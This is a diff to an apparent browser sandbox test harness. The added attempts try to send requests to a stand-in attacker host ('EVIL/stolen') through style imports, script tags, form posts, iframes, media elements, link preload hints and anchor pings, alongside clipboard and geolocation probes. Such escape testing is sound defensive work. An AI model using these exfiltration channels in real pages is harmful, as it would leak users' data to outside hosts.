@@ -14,6 +14,11 @@ const answer = (worker) => new Promise((resolve, reject) => {
   worker.onmessage = (e) => (e.data === 'blocked' ? reject(new Error('blocked inside')) : resolve(e.data));
   worker.onerror = () => reject(new Error('worker error'));
 });
+const add = (tag, what) => {
+  const made = Object.assign(document.createElement(tag), what);
+  document.body.append(made);
+  return made;
+};
 
 const attempts = {
   'fetch own API': () => fetch(`${SITE}/stolen?1`, { credentials: 'include' }),
@@ -79,9 +84,14 @@ const attempts = {
   'font': () => new FontFace('x', `url(${EVIL}/stolen?24)`).load(),
   'image': () => { new Image().src = `${EVIL}/stolen?25`; return 'set'; },
   'style': () => { document.body.style.background = `url(${EVIL}/stolen?26)`; return 'set'; },
-  'form': () => document.createElement('form').submit(),
-  'iframe': () => document.body.append(document.createElement('iframe')),
-  'link': () => document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: EVIL })),
+  'style sheet': () => add('style', { textContent: `@import url(${EVIL}/stolen?27); @font-face { font-family: x; src: url(${EVIL}/stolen?28) } * { font-family: x }` }),
+  'script': () => add('script', { src: `${EVIL}/stolen?29` }),
+  'form': () => add('form', { action: `${EVIL}/stolen?30`, method: 'post' }).submit() ?? 'set',
+  'iframe': () => add('iframe', { src: `${EVIL}/stolen?31` }),
+  'iframe own': () => add('iframe', { src: `${SITE}/stolen?32` }),
+  'media and objects': () => [['audio', 'src'], ['video', 'src'], ['embed', 'src'], ['object', 'data']].map(([tag, key]) => add(tag, { [key]: `${EVIL}/stolen?33` })) && 'set',
+  'link': () => ['preconnect', 'stylesheet', 'prefetch', 'preload', 'modulepreload', 'manifest', 'icon'].map((rel) => add('link', { rel, as: 'script', href: `${EVIL}/stolen?34` })) && 'set',
+  'ping': () => add('a', { href: '#x', ping: `${EVIL}/stolen?35` }).click() ?? 'set',
   'notification': () => { new Notification('x'); if (Notification.permission !== 'granted') throw new Error('denied'); return 'shown'; },
   'geolocation': () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
   'clipboard': () => navigator.clipboard.readText(),
